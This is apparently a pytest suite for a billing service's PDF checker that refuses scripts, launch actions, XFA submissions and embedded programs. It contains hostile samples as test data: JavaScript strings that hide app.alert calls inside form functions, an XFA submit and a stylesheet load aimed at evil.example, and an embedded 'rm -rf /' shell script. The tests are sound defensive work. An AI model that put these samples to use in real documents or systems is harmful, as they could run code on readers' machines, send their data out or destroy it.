"""Which PDFs are refused: real actions, however they are packed, and never words."""

import zipfile
from collections.abc import Iterator
from io import BytesIO
from itertools import islice, product

import pikepdf
import pytest
from pikepdf import settings

from billing.files.attachments import MAX_UNPACKED_BYTES
from billing.refusals import ErrorCode, Refused
from storage.pdf import hybrid, verdict
from tests.samples import PDF_HEAD, jpeg, noise, pdf, pdf_of, stream
from tests.storage.independent import actions_of
from tests.storage.pdf.grammar import ACTIONS, ALWAYS, BY_ITSELF, CLICKED, MENTIONS, NAMED, OPENED, PACKINGS, PLACES, objects_of


@pytest.fixture(autouse=True)
def _limits() -> Iterator[None]:
    """The parser's limits are the process's, and other tests of this process have their own."""
    before = settings.get_qpdf_limits()
    verdict.set_limits()
    yield
    settings.set_qpdf_limits(**before)  # type: ignore[arg-type]


def refusal_of(content: bytes) -> Refused | None:
    try:
        verdict.examine(BytesIO(content), MAX_UNPACKED_BYTES)
    except Refused as refused:
        return refused
    return None


def code_of(content: bytes) -> ErrorCode | None:
    refused = refusal_of(content)
    return refused.code if refused else None


@pytest.mark.parametrize("packing", PACKINGS)
def test_a_file_without_actions_passes_however_it_is_packed(packing: str) -> None:
    content = PACKINGS[packing](objects_of())
    assert code_of(content) is None
    assert actions_of(content) == []


@pytest.mark.parametrize("place", [*PLACES, *NAMED])
def test_every_action_is_refused_in_every_place(place: str) -> None:
    kinds = {"a script": ALWAYS["a script"]} if place in NAMED else ACTIONS if place in OPENED else ALWAYS
    for kind, action in kinds.items():
        refused = refusal_of(PACKINGS["as it is"](objects_of(**(PLACES | NAMED)[place](action))))
        assert refused is not None, kind
        assert refused.code == ErrorCode.UNSAFE_FILE, kind


@pytest.mark.parametrize("packing", PACKINGS)
def test_every_action_and_every_place_is_found_in_every_packing(packing: str) -> None:
    """Each action once and each place once, paired so that all packings together have most pairs."""
    start = list(PACKINGS).index(packing)
    pairs = [pair for pair in product(ACTIONS, PLACES) if pair[0] in ALWAYS or pair[1] in OPENED]
    chosen = list(islice(pairs, start % 7, None, 7))
    for kind, place in chosen:
        content = PACKINGS[packing](objects_of(**PLACES[place](ACTIONS[kind])))
        assert code_of(content) == ErrorCode.UNSAFE_FILE, (kind, place)
    assert {kind for kind, _ in chosen} == set(ACTIONS)
    assert {place for _, place in chosen} == set(PLACES)


@pytest.mark.parametrize("packing", PACKINGS)
def test_words_and_links_pass_in_every_packing(packing: str) -> None:
    for place, entries in MENTIONS.items():
        content = PACKINGS[packing](objects_of(**entries))
        refused = refusal_of(content)
        assert refused is None, (place, refused and refused.message)


@pytest.mark.parametrize("place", CLICKED)
def test_what_a_click_starts_passes_unless_it_is_refused_everywhere(place: str) -> None:
    for kind, action in BY_ITSELF.items():
        assert code_of(PACKINGS["as it is"](objects_of(**CLICKED[place](action)))) is None, kind


def test_the_independent_reader_finds_scripts_that_this_test_relies_on() -> None:
    for place in OPENED:
        assert set(actions_of(PACKINGS["as it is"](objects_of(**OPENED[place](ALWAYS["a script"]))))) == {"/JavaScript"}, place
    assert actions_of(PACKINGS["packed by Flate"](objects_of(**OPENED["on opening"](ALWAYS["a program"])))) == ["/Launch"]


CALCULATIONS = {
    "a sum": r'AFSimple_Calculate("SUM", new Array ("a", "b"));',
    "a sum of a list": r"AFSimple_Calculate('AVG', ['a', 'b\'c']);",
    "a number": r'AFNumber_Format(2, 0, 0, 0, "\u20ac ", true);',
    "two calls": 'AFDate_KeystrokeEx("mm/dd/yyyy");\n/* then */ AFDate_FormatEx("mm/dd/yyyy") // done',
    "ranges": "AFRange_Validate(true, -1, true, 100.5);",
    "others": "AFPercent_Format(2, 0);AFSpecial_Keystroke(2);AFTime_Format(0)",
    "nothing": "  ",
}
SCRIPTS = {
    "another function": "AutoTab(this, event)",
    "a call and another": 'AFNumber_Format(2, 0, 0, 0, "", true); app.alert(1);',
    "a variable": "AFNumber_Format(app)",
    "a call in an argument": "AFNumber_Format(app.alert(1))",
    "an operator": 'AFNumber_Format("a" + app.alert(1))',
    "a string that ends early": 'AFNumber_Format("a"); app.alert("b")',
    "an escaped quotation mark": 'AFNumber_Format("a\\\\"); app.alert("b")',
    "a comment that ends at a line of Unicode": "AFTime_Format(0) //\u2028 app.alert(1)",
    "a comment of HTML": "AFTime_Format(0) <!-- \n app.alert(1)",
    "a template": "AFTime_Format(`${app.alert(1)}`)",
    "a name that only begins so": "AFSimple_Calculate.constructor('app.alert(1)')()",
    "a very long one": "AFTime_Format(0);" * 2000,
    "unbalanced": "AFTime_Format((((((((((((((((((((((((((((((((((((((((((0)",
    "many that lead nowhere": "AFTime_Format(" + "0," * 5000,
}


def in_field(script: str) -> bytes:
    text = b"<feff%s>" % script.encode("utf-16-be").hex().encode()
    return PACKINGS["as it is"](
        objects_of(annotation=b"/FT /Tx /T (a) /AA << /C << /S /JavaScript /JS %s >> >>" % text, catalog=b"/AcroForm << /Fields [4 0 R] >>")
    )


@pytest.mark.parametrize("script", CALCULATIONS.values(), ids=CALCULATIONS)
def test_the_fixed_calculations_of_forms_pass(script: str) -> None:
    assert code_of(in_field(script)) is None


@pytest.mark.parametrize("script", SCRIPTS.values(), ids=SCRIPTS)
def test_what_is_more_than_a_fixed_calculation_is_a_script(script: str) -> None:
    assert code_of(in_field(script)) == ErrorCode.UNSAFE_FILE


def test_a_calculation_outside_of_fields_is_a_script() -> None:
    for place in ("on opening", "on clicking a link", "on closing"):
        assert code_of(PACKINGS["as it is"](objects_of(**PLACES[place](b"<< /S /JavaScript /JS (AFTime_Format\\(0\\);) >>")))) == ErrorCode.UNSAFE_FILE


XDP = '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.3/">{}</template></xdp:xdp>'
XFA_SAFE = {
    "fields": "<field name='JavaScript'><caption><value><text>How to use a &lt;script&gt;</text></value></caption></field>",
    "a button that sends": "<field><event activity='click'><submit target='https://example.com'/></event></field>",
}
XFA_UNSAFE = {
    "a script": "<event activity='docReady'><script contentType='application/x-javascript'>app.alert(1)</script></event>",
    "a script of another namespace": "<x:script xmlns:x='http://www.xfa.org/schema/xfa-template/3.3/'>app.alert(1)</x:script>",
    "a form that sends itself": "<event activity='docReady'><submit target='https://evil.example'/></event>",
    "a web service": "<execute connection='a'/>",
    "broken XML with a script": "<b><script>app.alert(1)</script>",
}


def xfa(template: str, *, encoding: str = "utf-8") -> bytes:
    content = XDP.format(template).encode(encoding)
    half = len(content) // 2
    parts = [stream(content[:half]), stream(content[half:])]
    return PACKINGS["as it is"](objects_of(catalog=b"/AcroForm << /Fields [] /XFA [ (xdp:xdp) 10 0 R (template) 11 0 R ] >>", more=parts))


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_an_xfa_form_passes_without_scripts_and_not_with_them(encoding: str) -> None:
    for name, template in XFA_SAFE.items():
        assert code_of(xfa(template, encoding=encoding)) is None, name
    for name, template in XFA_UNSAFE.items():
        assert code_of(xfa(template, encoding=encoding)) == ErrorCode.UNSAFE_FILE, name


@pytest.mark.parametrize("declaration", ['<!DOCTYPE a [<!ENTITY b "&#60;script>">]>', '<?xml-stylesheet href="\\\\evil.example\\a.xsl"?>'])
def test_an_xfa_form_that_hides_its_content_or_loads_more_is_refused(declaration: str) -> None:
    content = stream(f"{declaration}{XDP.format('')}".encode())
    assert code_of(PACKINGS["as it is"](objects_of(catalog=b"/AcroForm << /XFA 10 0 R >>", more=[content]))) == ErrorCode.UNSAFE_FILE


def zip_of(*names: str) -> bytes:
    written = BytesIO()
    with zipfile.ZipFile(written, "w") as archive:
        for name in names:
            archive.writestr(name, "x")
    return written.getvalue()


def embedding(name: bytes, content: bytes) -> bytes:
    return PACKINGS["packed by Flate"](
        objects_of(
            catalog=b"/AF [10 0 R] /Names << /EmbeddedFiles << /Names [ (a) 10 0 R ] >> >>",
            more=[b"<< /Type /Filespec /F (%s) /UF (%s) /EF << /F 11 0 R /UF 11 0 R >> >>" % (name, name), stream(content, b"/Type /EmbeddedFile")],
        )
    )


EMBEDDED_SAFE = {
    "factur-x.xml": b'<?xml version="1.0"?><rsm:CrossIndustryInvoice/><!-- /JavaScript -->',
    "data.csv": b"MZ,Mozambique\n",
    "photo.jpg": jpeg(),
    "order.pdf": pdf(),
    "order.xlsx": zip_of("[Content_Types].xml", "xl/workbook.xml"),
    "papers.zip": zip_of("a.pdf", "b.xml"),
    "letter.doc": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500),
}
EMBEDDED_UNSAFE = {
    "evil.exe": b"harmless",
    "evil.EXE .": b"harmless",
    "harmless.txt": b"MZ\x90\x00\x03\x00" + bytes(60),
    "harmless.bin": b"\x7fELF\x02" + bytes(60),
    "harmless": b"#!/bin/sh\nrm -rf /\n",
    "evil.js": b"WScript.Shell",
    "evil.docm": zip_of("word/document.xml"),
    "evil.docx": zip_of("word/document.xml", "word/vbaProject.bin"),
    "evil.doc": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500) + "_VBA_PROJECT".encode("utf-16-le"),
    "evil.zip": zip_of("a.pdf", "b/evil.exe"),
    "evil.rar": b"Rar!\x1a\x07\x01\x00" + bytes(50),
    "broken.zip": b"PK\x03\x04" + bytes(50),
    "evil.pdf": pdf(catalog=b"/OpenAction << /S /JavaScript /JS (app.alert) >>"),
}


@pytest.mark.parametrize("name", EMBEDDED_SAFE)
def test_data_and_documents_may_be_embedded(name: str) -> None:
    assert code_of(embedding(name.encode(), EMBEDDED_SAFE[name])) is None


@pytest.mark.parametrize("name", EMBEDDED_UNSAFE)
def test_programs_may_not_be_embedded_whatever_they_are_called(name: str) -> None:
    assert code_of(embedding(name.encode(), EMBEDDED_UNSAFE[name])) == ErrorCode.UNSAFE_FILE


def test_pdfs_in_pdfs_are_judged_as_deep_as_there_is_a_bound() -> None:
    content = pdf()
    for depth in range(2, 6):
        content = embedding(b"a.pdf", content)
        assert code_of(content) == (None if depth <= verdict.MAX_DEPTH else ErrorCode.TOO_COMPLEX)


def encrypted(owner: str, user: str, revision: int) -> bytes:
    written = BytesIO()
    with pikepdf.open(BytesIO(pdf())) as document:
        is_newer = revision >= 4
        document.save(written, encryption=pikepdf.Encryption(owner=owner, user=user, R=revision, aes=is_newer, metadata=is_newer))
    return written.getvalue()


@pytest.mark.filterwarnings("ignore:Encryption R=5 is deprecated")
@pytest.mark.parametrize("revision", [2, 3, 4, 5, 6])
def test_a_pdf_needs_a_password_where_the_users_is_not_empty(revision: int) -> None:
    """The owner's may be anything. In the newer revisions it may be empty although the user's is not, and browsers then ask for the user's."""
    for owner in ("", "o"):
        content = encrypted(owner, "u", revision)
        assert code_of(content) == ErrorCode.PASSWORD_PROTECTED, owner
        assert code_of(embedding(b"a.pdf", content)) == ErrorCode.PASSWORD_PROTECTED, owner
        assert code_of(encrypted(owner, "", revision)) is None, owner


def test_a_pdf_that_needs_a_certificate_has_the_same_code() -> None:
    certificate = pdf_of(objects_of(), trailer=b"/Encrypt << /Filter /Adobe.PubSec /SubFilter /adbe.pkcs7.s5 /V 4 >> /ID [<00> <00>]")
    assert code_of(certificate) == ErrorCode.PASSWORD_PROTECTED


NO_PDF = {
    "a letter": b"%PDF-1.4 this is a letter %%EOF",
    "a head and an end": b"%PDF-1.4\n%%EOF\n",
    "noise": b"%PDF-1.4\n" + noise(5000) + b"%%EOF",
    "a picture": jpeg(),
    "a catalog alone": b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\n%%EOF",
}


@pytest.mark.parametrize("content", NO_PDF.values(), ids=NO_PDF)
def test_what_no_reader_opens_is_no_pdf(content: bytes) -> None:
    assert code_of(content) == ErrorCode.UNSUPPORTED_FILE


@pytest.mark.parametrize(
    "head",
    [b"MZ" + bytes(60), b"\x7fELF" + bytes(60), zip_of("a.txt")[:80], b"#!/bin/sh\n", b"Rar!\x1a\x07\x01\x00"],
    ids=["DOS", "ELF", "ZIP", "shell", "RAR"],
)
def test_a_program_or_an_archive_before_the_pdf_is_a_second_format(head: bytes) -> None:
    assert code_of(pdf_of(objects_of(), head=head + b"\n" + PDF_HEAD)) == ErrorCode.UNSAFE_FILE


def test_what_readers_skip_passes() -> None:
    for head in (b"\xef\xbb\xbf", b"\r\n", b"From: mail@example.com\r\n" * 40):
        assert code_of(pdf_of(objects_of(), head=head + PDF_HEAD)) is None
    assert code_of(pdf().replace(b"%PDF-1.7\n", b"%!PS-Adobe-3.0 PDF-1.4\n")) is None
    assert code_of(pdf() + b"<!-- generated -->" * 200) is None


def test_a_refusal_says_what_was_found_and_what_to_do() -> None:
    refused = refusal_of(embedding(b"evil.exe", b"x"))
    assert refused is not None
    assert refused.message == "The PDF has an embedded program (evil.exe). Take it out, or print the PDF into a new one, and attach that."
    refused = refusal_of(PACKINGS["as it is"](objects_of(**OPENED["on opening"](ACTIONS["a program"]))))
    assert refused is not None
    assert refused.message == "The PDF has an action that starts a program (Launch). Print it into a new PDF and attach that."


@pytest.mark.parametrize(
    ("content", "is_one"),
    [
        (b"trailer << /XRefStm 12 >> startxref 1 %%EOF 9 0 obj 1 endobj trailer << /Size 4 >> startxref 2 %%EOF", True),
        (b"trailer << /Size 4 >> startxref 1 %%EOF trailer << /#58RefSt#6D 12 0 R >> startxref 2 %%EOF", True),
        (b"1 0 obj << /XRefStm 12 >> endobj trailer << /Size 4 >> startxref 1 %%EOF", False),
        (b"1 0 obj << /XRefStm 12 >> endobj", False),
    ],
)
def test_a_file_is_hybrid_by_what_stands_behind_any_trailer(content: bytes, is_one: bool) -> None:
    assert hybrid.is_hybrid(content) is is_one
